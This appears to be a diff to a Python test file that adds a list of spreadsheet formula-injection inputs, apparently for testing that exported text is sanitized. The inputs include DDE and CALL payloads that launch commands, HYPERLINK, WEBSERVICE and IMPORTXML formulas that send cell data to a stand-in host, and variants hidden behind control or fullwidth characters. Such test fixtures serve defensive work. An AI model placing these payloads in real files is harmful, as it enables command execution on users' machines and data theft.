@@ -93,3 +93,28 @@ WHOLE = [
     "q==1", "&".join(["q=a"] * 900), "&".join(f"unknown{n}=1" for n in range(900)),
     "&".join(["sort=", "page=", "size=", "format=", "behind=", "place=", "year=", "park="]), "%",
 ]  # fmt: skip
+
+# Texts that a spreadsheet would run, fetch something for, or send something with.
+FORMULAS = [
+    "=1+1",
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("http://x.example/?leak="&A1,"Click")',
+    '=WEBSERVICE("http://x.example/"&A1)',
+    '=IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    '=IFERROR(1,CALL("Kernel32","WinExec","JCJ","calc",0))',
+    "=1+1\r\n=2+2",
+    "+1+1",
+    "+cmd|'/C calc'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+1)*cmd|'/C calc'!A0",
+    '@IMPORTRANGE("key";"A1")',
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\0=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+]
